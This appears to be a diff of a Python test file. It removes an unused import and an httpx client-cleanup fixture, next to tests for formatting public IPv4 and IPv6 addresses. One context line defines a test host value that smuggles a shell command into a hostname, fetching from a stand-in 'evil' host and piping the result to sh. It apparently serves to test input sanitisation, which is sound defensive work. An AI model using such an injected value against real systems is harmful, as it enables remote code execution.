@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import shlex
-from collections.abc import AsyncIterator
 from typing import Any
 
 import httpx
@@ -64,13 +63,6 @@ def test_an_ipv6_public_port_is_bracketed() -> None:
     assert public_address("2001:db8::1", 8888) == "[2001:db8::1]:8888"
     assert public_address("203.0.113.7", "8888") == "203.0.113.7:8888"
 
-
-@pytest.fixture
-async def clients() -> AsyncIterator[list[httpx.AsyncClient]]:
-    opened: list[httpx.AsyncClient] = []
-    yield opened
-    for client in opened:
-        await client.aclose()
 
 
 EVIL_HOST = "ssh1.vast.ai;curl${IFS}evil|sh"
